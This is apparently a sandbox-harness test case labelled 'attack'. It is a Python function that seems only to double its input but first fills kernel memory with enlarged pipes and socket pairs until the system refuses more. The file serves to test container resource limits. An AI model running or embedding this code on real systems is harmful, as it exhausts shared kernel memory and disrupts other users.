# /// attack
# line = "memfd/shared mappings"
# expect = ["PASSED"]
# [proof]
# output = "attack: [1-9][0-9]+ KiB in [1-9][0-9]* pipes and socket pairs"
# ///
import fcntl
import os
import socket


# Memory of the kernel's, on nobody's account but the container's.
def f(x):
    held, written = [], 0
    try:
        while True:
            reader, writer = os.pipe()
            held.append((reader, writer))
            try:
                fcntl.fcntl(writer, 1_031, 1 << 20)  # F_SETPIPE_SZ
            except OSError:
                pass
            os.set_blocking(writer, False)
            ends = socket.socketpair()
            held.append(ends)
            for write in (lambda data: os.write(writer, data), lambda data: ends[0].send(data, socket.MSG_DONTWAIT)):
                try:
                    while True:
                        written += write(b"x" * 65_536)
                except BlockingIOError:
                    pass
    except OSError:
        print(f"attack: {written >> 10} KiB in {len(held)} pipes and socket pairs", flush=True)
    return 2 * x
